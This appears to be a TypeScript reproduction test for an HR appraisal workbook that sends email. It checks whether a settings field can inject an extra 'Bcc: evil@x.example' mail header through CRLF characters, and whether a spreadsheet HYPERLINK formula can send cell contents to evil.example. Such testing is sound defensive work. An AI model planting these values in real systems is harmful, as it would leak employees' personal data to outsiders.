import {fillWorkbook, newHarness, outboxMails, PERIODE, KEPALA} from '../email/harness';
import {setSetting, sheet} from '../support/workbook';
import * as fs from 'fs';

it('repro', () => {
  const h = newHarness();
  fillWorkbook(h);
  setSetting(h.emulator, 'Email HR', 'hr@x.id\r\nBcc: evil@x.example');
  const v = h.ctx.apiValidate();
  console.log(JSON.stringify(v).slice(0, 600));
  const st = h.ctx.apiStartSend(PERIODE, false);
  console.log(st.message, st.state);
  const files = fs.readdirSync(h.outbox);
  if (files[0]) console.log(fs.readFileSync(h.outbox + '/' + files[0], 'utf8').split('\r\n\r\n')[0]);
  // formula injection
  const p = sheet(h.emulator, 'Pegawai');
  p.getRange(3, 2).setValue("'=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")");
  console.log(p.getRange(3, 2).getFormula(), p.getRange(3, 2).getValue());
  const r = h.ctx.apiStartTabs(PERIODE);
  console.log(r.message);
  const tab = sheet(h.emulator, `Penilaian ${PERIODE} ${KEPALA.nip}`);
  console.log(JSON.stringify(tab.getRange(1, 1, 4, 13).getFormulas()));
});
